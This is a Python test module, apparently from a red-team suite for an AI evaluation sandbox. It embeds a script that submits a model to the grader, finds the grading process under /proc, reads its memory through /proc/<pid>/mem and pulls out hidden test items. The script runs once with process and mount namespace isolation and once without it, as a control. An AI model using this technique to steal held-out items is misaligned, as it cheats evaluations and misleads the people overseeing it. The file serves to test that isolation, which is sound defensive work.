"""Watch for the process that evaluates a submission, and read hidden items out of its memory, job and scratch files."""

import shutil

from red_team.frame import Outcome
from red_team.moves import judge_loot
from red_team.scene import Scene

AIM = "hidden items while they are played"
DEFENCE = "process and mount namespaces"

PROGRAM = """
import glob, json, os, re, time, httpx
targets = json.loads(os.environ["TARGETS"])
body = {"model_path": "output/watched", "wait": False}
print(httpx.post(targets["grading_url"] + "/submit", json=body, timeout=300).status_code)
ends_at = time.time() + 250
found = set()
while time.time() < ends_at:  # to its end: other trials of this host have such processes, too
    for number in sorted(filter(str.isdigit, os.listdir("/proc")), key=int, reverse=True):  # ours is the newest
        try:
            if b"grader.child" not in open(f"/proc/{number}/cmdline", "rb").read():
                continue
            for line in open(f"/proc/{number}/maps"):
                span, rights = line.split()[:2]
                if rights.startswith("rw"):
                    start, end = (int(word, 16) for word in span.split("-"))
                    with open(f"/proc/{number}/mem", "rb") as memory:
                        memory.seek(start)
                        found |= set(re.findall(rb"Calculate [-+*/() 0-9]{5,40}", memory.read(end - start)))
        except OSError:
            continue
    state = httpx.get(targets["grading_url"] + "/submissions", timeout=300).json()["submissions"][-1]["state"]
    if state != "accepted":
        break
    time.sleep(0.05)
print(len(found), "strings")
for text in found:
    print(text.decode(errors="replace"))
"""


def attempt(scene: Scene) -> Outcome:
    scene.copy_of_base("watched")
    return judge_loot(scene, scene.run(PROGRAM))


def control(scene: Scene) -> Outcome:
    scene.copy_of_base("watched")
    try:
        return judge_loot(scene, scene.run_freely(PROGRAM))
    finally:
        shutil.rmtree(scene.paths.workspace / "output" / "watched")
